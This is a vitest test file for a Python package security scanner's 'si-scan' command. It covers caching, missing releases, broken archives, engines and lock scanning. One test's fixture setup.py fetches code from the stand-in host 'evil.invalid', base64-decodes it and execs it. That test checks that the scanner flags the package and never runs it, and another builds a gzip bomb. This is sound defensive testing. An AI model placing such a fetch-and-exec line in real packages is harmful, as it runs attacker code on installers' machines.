import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { expect, test } from "vitest";
import { type Distribution, sdist, wheel } from "../../fixtures/packages.ts";
import { makeProject, type TestProject, thoth } from "../../fixtures/rig.ts";
import { servedIndex } from "../../fixtures/served-index.ts";

const weak = "import hashlib\n\n\ndef digest(text):\n    return hashlib.md5(text).hexdigest()\n";
const code = { "core/__init__.py": weak, "core/more.py": "y = 2\n" };
const source = sdist({ name: "core", version: "1.0", files: code });
const pure = wheel({ name: "core", version: "1.0", files: code });

/** The files of the only release that a run told of in JSON. */
function filesOf(stdout: string) {
  const { schema, releases } = JSON.parse(stdout);
  expect(schema).toBe("thoth.security");
  expect(releases).toHaveLength(1);
  return releases[0].files;
}

test("source distribution and wheel are scanned once; what is known is told again without work", async () => {
  const index = await servedIndex([source, pure]);
  const project = makeProject();

  const run = await thoth(project, ["si-scan", "core==1.0"], { index: index.url });

  expect({ exitCode: run.exitCode, stderr: run.stderr }).toEqual({
    exitCode: 0,
    stderr: "scanning: core==1.0\n",
  });
  expect(run.stdout).toMatch(/^core==1.0: nothing that blocks\n {2}core-1.0.tar.gz: score 0/);
  expect(run.stdout).toMatch(/^ {4}severity high +1 +0 +0 +0$/m);
  expect(run.stdout).toMatch(/^ {4}high\/high \w+ core-1.0\/core\/__init__.py:5: /m);
  expect(run.stdout).toMatch(/^ {4}high\/high \w+ core\/__init__.py:5: /m);
  index.forgetRequests();
  const again = await thoth(project, ["si-scan", "core==1.0", "--json"], { index: index.url });
  expect(again).toMatchObject({ exitCode: 0, stderr: "" });
  expect(filesOf(again.stdout)).toMatchObject([
    {
      outcome: "scanned",
      filename: source.filename,
      sha256: source.sha256,
      tools: { "thoth-scan": "1" },
      aggregate: { "SEVERITY.HIGH__CONFIDENCE.HIGH": 1, number_of_files_with_severities: 1 },
      findings: [{ tool: "thoth", severity: "HIGH", line: 5, runs: "call" }],
      alarms: [],
    },
    { outcome: "scanned", filename: pure.filename, sha256: pure.sha256 },
  ]);
  expect(index.requests()).toEqual([]);
});

test("nothing of a package is run, whatever its setup.py would do", async () => {
  const marker = join(makeProject().directory, "marker");
  const setupPy = [
    "import base64, os, urllib.request",
    `open(${JSON.stringify(marker)}, "w").close()`,
    'exec(base64.b64decode(urllib.request.urlopen("http://evil.invalid/x").read()))',
  ].join("\n");
  const files = { "core/__init__.py": setupPy };
  const index = await servedIndex([
    sdist({ name: "core", version: "1.0", files, setupPy, pyproject: false }),
  ]);

  const run = await thoth(makeProject(), ["si-scan", "core==1.0"], { index: index.url });

  expect({ exitCode: run.exitCode, stderr: run.stderr }).toMatchObject({ exitCode: 1 });
  expect(run.stdout).toContain("core==1.0: looks malicious\n");
  expect(run.stdout).toMatch(/block \w+ core-1.0\/setup.py:3: .*\(runs when installed\)/);
  expect(existsSync(marker)).toBe(false);
});

test("that there is no source distribution is noted once, and the wheel is scanned", async () => {
  const index = await servedIndex([pure]);
  const project = makeProject();

  const run = await thoth(project, ["si-scan", "core==1.0"], { index: index.url });
  const queued = await waiting(project);
  await thoth(project, ["investigate"], { index: index.url });
  index.forgetRequests();
  const again = await thoth(project, ["si-scan", "core==1.0", "--json"], { index: index.url });

  expect({ exitCode: run.exitCode, stderr: run.stderr }).toMatchObject({ exitCode: 0 });
  expect(run.stdout).toContain("\n  no source distribution\n  core-1.0-py3-none-any.whl: score");
  expect(queued).toEqual(["update_provides_source_distro"]);
  expect(again.exitCode).toBe(0);
  expect(filesOf(again.stdout)).toMatchObject([
    { outcome: "no-source-distribution", filename: "core-1.0.tar.gz" },
    { outcome: "scanned", filename: pure.filename },
  ]);
  expect(index.requests()).toEqual([]);
  expect(await waiting(project)).toEqual([]);
});

/** Types of the messages in the queue. */
async function waiting(project: TestProject): Promise<readonly string[]> {
  const { stdout } = await thoth(project, ["queue", "list", "--json"]);
  const { messages } = JSON.parse(stdout);
  return messages.map(
    ({ message }: { readonly message: { readonly type: string } }) => message.type,
  );
}

test("a release that the index lacks is no finding and no success, and fails once", async () => {
  const index = await servedIndex([pure]);
  const project = makeProject();

  const run = await thoth(project, ["si-scan", "core==9.0"], { index: index.url });

  expect(run.exitCode).toBe(3);
  expect(run.stdout).toBe(`core==9.0: unknown, since not all of it could be scanned
  core-9.0.tar.gz: the file is not there any more
    the index lists no file of it
`);
  expect(await waiting(project)).toEqual(["missing_version"]);
  index.forgetRequests();
  const again = await thoth(project, ["si-scan", "core==9.0"], { index: index.url });
  expect(again).toMatchObject({ exitCode: 3, stdout: run.stdout, stderr: "" });
  expect(index.requests()).toEqual([]);
});

function broken(bytes: Buffer): Distribution {
  return { ...sdist({ name: "core", version: "1.0" }), bytes };
}

test.each([
  ["no archive", Buffer.from("no archive"), "the archive can't be read"],
  ["half of one", Buffer.from(source.bytes).subarray(0, 200), "the archive can't be read"],
  ["a bomb", gzipSync(Buffer.alloc(200_000_000)), "the archive can't be read"],
])("%s is a failure, not a clean result, and fails once", async (_what, bytes, says) => {
  const { createHash } = await import("node:crypto");
  const sha256 = createHash("sha256").update(bytes).digest("hex");
  const index = await servedIndex([{ ...broken(bytes), sha256 }]);
  const project = makeProject();

  const run = await thoth(project, ["si-scan", "core==1.0"], { index: index.url });

  expect({ exitCode: run.exitCode, stderr: run.stderr }).toMatchObject({ exitCode: 3 });
  expect(run.stdout).toContain(`core-1.0.tar.gz: ${says}\n`);
  index.forgetRequests();
  await thoth(project, ["si-scan", "core==1.0"], { index: index.url });
  expect(index.requests()).toEqual([]);
});

/** A linter that finds fault with every line that calls eval, and reports as bandit does. */
const scanner = `
import json, os, sys

results, lines = [], 0
for folder, _, names in os.walk(sys.argv[-1]):
    for name in names:
        path = os.path.join(folder, name)
        for number, line in enumerate(open(path), 1):
            lines += 1
            if "y = 2" in line:
                results.append({
                    "issue_severity": "LOW", "issue_confidence": "MEDIUM", "test_id": "B999",
                    "issue_text": "two", "filename": path, "line_number": number,
                })
json.dump({"errors": [], "metrics": {"_totals": {"loc": lines}}, "results": results}, sys.stdout)
`;
const bandit = wheel({
  name: "bandit",
  version: "1.8.0",
  files: { "bandit/__init__.py": "", "bandit/__main__.py": scanner },
});

test("a second opinion is asked for once, has its own counts and stands in SARIF", async () => {
  const index = await servedIndex([bandit, source]);
  const project = makeProject();
  await thoth(project, ["si-scan", "core==1.0"], { index: index.url });
  const line = ["si-scan", "core==1.0", "--engine", "bandit"];

  const run = await thoth(project, line, { index: index.url });

  expect({ exitCode: run.exitCode, stderr: run.stderr }).toMatchObject({ exitCode: 0 });
  expect(run.stdout).toContain("by thoth-scan 1, bandit 1.8.0\n");
  expect(run.stdout).toMatch(/^ {4}bandit +confidence high/m);
  index.forgetRequests();
  const sarif = await thoth(project, [...line, "--format", "sarif"], { index: index.url });
  const results = JSON.parse(sarif.stdout).runs[0].results;
  expect(results.map(({ ruleId }: { readonly ruleId: string }) => ruleId)).toContain("bandit/B999");
  expect(index.requests()).toEqual([]);
});

test("where bandit can't be had, that is an environment error with a way out", async () => {
  const index = await servedIndex([source]);
  const line = ["si-scan", "core==1.0", "--engine", "bandit"];

  const run = await thoth(makeProject(), line, { index: index.url });

  expect(run).toMatchObject({ exitCode: 4, stdout: "" });
  expect(run.stderr).toContain("error[THOTH-E0410]: bandit could not be installed");
  expect(run.stderr).toContain("help: `pip install bandit`");
});

test("what a lock would install is scanned, and a release that fails hides no other", async () => {
  const index = await servedIndex([source, pure, wheel({ name: "util", version: "2.0" })]);
  const project = makeProject({ pipfile: `[packages]\ncore = "*"\nutil = "*"\n` });
  await thoth(project, ["advise", "--verify", "none"], { index: index.url });

  const run = await thoth(project, ["si-scan", "--lock", "--json"], { index: index.url });

  expect({ exitCode: run.exitCode, stderr: run.stderr }).toEqual({ exitCode: 0, stderr: "" });
  const { releases } = JSON.parse(run.stdout);
  expect(
    releases.map(({ release, verdict }: Record<string, string>) => [release, verdict]),
  ).toEqual([
    ["core==1.0", "nothing-blocks"],
    ["util==2.0", "nothing-blocks"],
  ]);
});

test("what was installed and not scanned is found", async () => {
  const index = await servedIndex([source, pure]);
  const project = makeProject();
  await thoth(project, ["solve", "core==1.0"], { index: index.url });
  const line = ["si-scan", "--all-missing", "--json"];

  const run = await thoth(project, line, { index: index.url });
  const again = await thoth(project, line, { index: index.url });

  expect(filesOf(run.stdout)).toHaveLength(2);
  expect(JSON.parse(again.stdout).releases).toEqual([]);
  expect(readdirSync(project.directory)).not.toContain("core");
});

test.each([[[]], [["core==1.0", "--all-missing"]], [["core"]]])(
  "%j does not say what to scan",
  async (args) => {
    const run = await thoth(makeProject(), ["si-scan", ...args]);
    expect(run).toMatchObject({ exitCode: 2, stdout: "" });
    expect(run.stderr).toContain("NAME==VERSION");
  },
);
